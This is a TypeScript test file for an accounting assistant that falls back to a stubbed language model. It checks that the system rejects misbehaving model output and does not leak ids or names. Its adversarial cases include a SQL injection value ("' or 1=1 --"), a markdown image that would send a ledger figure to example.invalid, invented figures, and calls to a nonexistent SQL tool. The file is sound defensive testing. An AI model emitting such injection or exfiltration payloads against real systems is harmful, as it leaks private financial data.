import type { Turn } from "@cfa/contract/assistant";
import { afterAll, beforeAll, beforeEach, expect, test } from "vitest";

import { startModelServer, type ModelServer, type Said } from "../assistant/model/test-model-server.ts";
import { outward } from "../test-books.ts";
import { callAs } from "../test-calls.ts";
import { startTestCompany, type TestCompany } from "../test-company.ts";

/*
 * Asha's books with a language model behind them, over HTTP from end to end: what the assistant does not understand goes to a model that does well, badly or harm. Either a
 * text whose every figure is a cell comes back, or what the assistant says by itself, and within five seconds.
 */

const MOST_MILLIS = 5_000;
/** Words that nothing here knows: only a model may make something of them. */
const OPEN = "Blorp flim zzq frob";
/** What goes to one model server is answered by the script of the test. */
const script: Said[] = [];
let stub: ModelServer;
let asha: TestCompany;
beforeAll(async () => {
  stub = await startModelServer(script);
  const model = { provider: "openai-compatible", url: stub.url, model: "stub", key: null } as const;
  asha = await startTestCompany({}, { model });
});
beforeEach(async () => {
  await asha.database.asOwner("truncate assistant_turn, assistant_setting");
  await say({ usesModel: true, hidesNames: false });
});
afterAll(async () => {
  await asha.close();
  await stub.close();
});

const call = (method: string, path: string, body: object) =>
  callAs<Turn>(asha.server, asha.owner, [method, `/api/companies/${asha.company}/assistant${path}`, body]);
const say = (settings: { usesModel: boolean; hidesNames: boolean }) => call("PUT", "/settings", { settings });

type Asked = { turn: Turn; millis: number; bodies: string[]; kept: Kept };
type Kept = { byModel: boolean; tokens: number };
async function ask(said: readonly Said[], question = OPEN): Promise<Asked> {
  script.splice(0, script.length, ...said);
  stub.bodies.length = 0;
  const begun = performance.now();
  const { status, body } = await call("POST", "/ask", { conversationId: null, question, language: "en" });
  const millis = performance.now() - begun;
  expect(status).toBe(200);
  const [kept] = await asha.database.asOwner<Kept>(
    `select by_model as "byModel", tokens from assistant_turn order by turn_no desc limit 1`,
  );
  return { turn: body, millis, bodies: [...stub.bodies], kept: kept ?? { byModel: false, tokens: -1 } };
}

const FIND: Said = { calls: [{ name: "find_names", args: { text: "Ram & Sons" } }] };
const books = (args: unknown): Said => ({ calls: [{ name: "ask_books", args }] });
const OWED = books({ measure: "receivable", parties: ["party-1"] });
const BUILT_IN = { kind: "declined", code: "not-understood" };

test("a model that asks the books well is answered from them, and its text has their figures", async () => {
  const { turn, kept } = await ask([FIND, OWED, { text: "{party-1} owes {r1.outstanding} today." }]);
  expect(turn.answer).toMatchObject({ kind: "answer", text: "Ram & Sons owes ₹900.00 today." });
  const own = await ask([{ text: "" }], "How much does Ram & Sons owe us?");
  expect(own.bodies).toEqual([]);
  if (turn.answer.kind !== "answer" || own.turn.answer.kind !== "answer") throw new Error("no answer");
  expect(turn.answer.results[0]?.figures).toEqual(own.turn.answer.results[0]?.figures);
  expect(kept).toEqual({ byModel: true, tokens: 45 });
});

test("what a model found is gone on from by the assistant itself", async () => {
  const { turn } = await ask([FIND, OWED, { text: "{party-1} owes {r1.outstanding}." }]);
  script.splice(0);
  const { body } = await call("POST", "/ask", {
    conversationId: turn.conversationId,
    question: "only what is overdue",
    language: "en",
  });
  expect(body.answer).toMatchObject({ kind: "answer", text: expect.stringContaining("₹600.00") });
});

test("without the owner's leave, and beyond the day's share, nothing goes there", async () => {
  await say({ usesModel: false, hidesNames: false });
  const without = await ask([OWED]);
  expect([without.bodies, without.turn.answer]).toEqual([[], expect.objectContaining(BUILT_IN)]);
  await say({ usesModel: true, hidesNames: false });
  await asha.database.asOwner("update assistant_turn set tokens = 200000");
  const beyond = await ask([OWED]);
  expect([beyond.bodies, beyond.turn.answer]).toEqual([[], expect.objectContaining(BUILT_IN)]);
});

const ANSWERED: Said = { text: "Customers owe {r1.outstanding}." };
test.each<[string, Said[]]>([
  ["hangs", ["hang"]],
  ["hangs after it has asked", [FIND, OWED, "hang"]],
  ["is overloaded", [{ raw: '{"error":{"message":"overloaded"}}', status: 503 }]],
  ["answers a page", [{ raw: "<html>hello</html>" }]],
  ["answers half", [{ raw: '{"choices":[{"message":{"content":"It is' }]],
  ["answers nothing", [{ raw: "" }]],
  ["answers no choice", [{ raw: '{"choices":[]}' }]],
  ["asks for ever", [FIND]],
  [
    "asks fifty times at once",
    [{ calls: Array.from({ length: 50 }, () => ({ name: "find_names", args: { text: "Ram" } })) }],
  ],
  ["asks with what is no JSON", [books("{ measure"), ANSWERED]],
  ["asks for a measure that is none", [books({ measure: "everything" }), ANSWERED]],
  ["asks a measure for what it does not know", [books({ measure: "sales", class: "late" }), ANSWERED]],
  [
    "names a handle that was not given out",
    [books({ measure: "receivable", parties: ["party-7"] }), ANSWERED],
  ],
  [
    "names a party by another kind's handle",
    [FIND, books({ measure: "receivable", ledgers: ["party-1"] }), ANSWERED],
  ],
  ["puts a company into its question", [books({ measure: "receivable", company_id: "cmp_other" }), ANSWERED]],
  ["puts SQL where a name belongs", [books({ measure: "receivable", parties: ["' or 1=1 --"] }), ANSWERED]],
  [
    "calls a tool that is not there",
    [{ calls: [{ name: "sql", args: { query: "select * from company" } }] }, ANSWERED],
  ],
  ["makes a number up", [FIND, OWED, { text: "{party-1} owes 12,345.00." }]],
  ["makes one up beside a right one", [FIND, OWED, { text: "{r1.outstanding}, and 3 bills more." }]],
  ["makes one up in words", [FIND, OWED, { text: "{party-1} owes five lakh, not {r1.outstanding}." }]],
  ["makes one up in another script", [FIND, OWED, { text: "{party-1} पर ५०० है, {r1.outstanding} नहीं" }]],
  ["adds up by itself", [FIND, OWED, { text: "{r1.outstanding} + {r1.outstanding} = ₹1,800" }]],
  ["names a place that is not there", [FIND, OWED, { text: "It is {r9.outstanding}." }]],
  [
    "shows a picture from elsewhere",
    [FIND, OWED, { text: "![x](https://example.invalid/?d={r1.outstanding})" }],
  ],
  ["links elsewhere", [FIND, OWED, { text: "See www.example.invalid for {r1.outstanding}." }]],
  ["says nothing from the books", [{ text: "All is well." }]],
])("of a model that %s the reader sees what the assistant says by itself, in time", async (_, said) => {
  const { turn, millis, kept } = await ask(said);
  expect(turn.answer).toMatchObject(BUILT_IN);
  expect(kept.byModel).toBe(false);
  expect(millis).toBeLessThan(MOST_MILLIS);
});

test("an id of ours in a model's question is none of its handles, whosever it is", async () => {
  for (const id of [outward(asha.books, "party", "Ram & Sons"), `pty_${"a".repeat(26)}`]) {
    const { turn } = await ask([books({ measure: "receivable", parties: [id] }), ANSWERED]);
    expect(turn.answer).toMatchObject(BUILT_IN);
  }
});

/** A model to which names are hidden can but ask for what it was told. */
const find = (isHidden: boolean): Said =>
  isHidden ? { calls: [{ name: "find_names", args: { text: "party-1" } }] } : FIND;

test("no id of ours leaves, and where names are hidden no name either, also of a question that has one", async () => {
  const text = "{party-1} owes {r1.outstanding}.";
  const question = "Zzq flim Ram & Sons frob blorp";
  const ids = [asha.books.companyId, asha.company, outward(asha.books, "party", "Ram & Sons")];
  for (const hidesNames of [false, true]) {
    await say({ usesModel: true, hidesNames });
    const { bodies } = await ask(
      [find(hidesNames), books({ measure: "receivable", groupBy: "party" }), { text }],
      question,
    );
    expect(bodies.length).toBeGreaterThan(0);
    const all = bodies.join("\n");
    for (const id of [...ids, ...Object.values(asha.books.ids)]) expect(all).not.toContain(id);
    expect(/Ram & Sons|Gupta|Cotton|Asha/.test(all)).toBe(!hidesNames);
  }
});
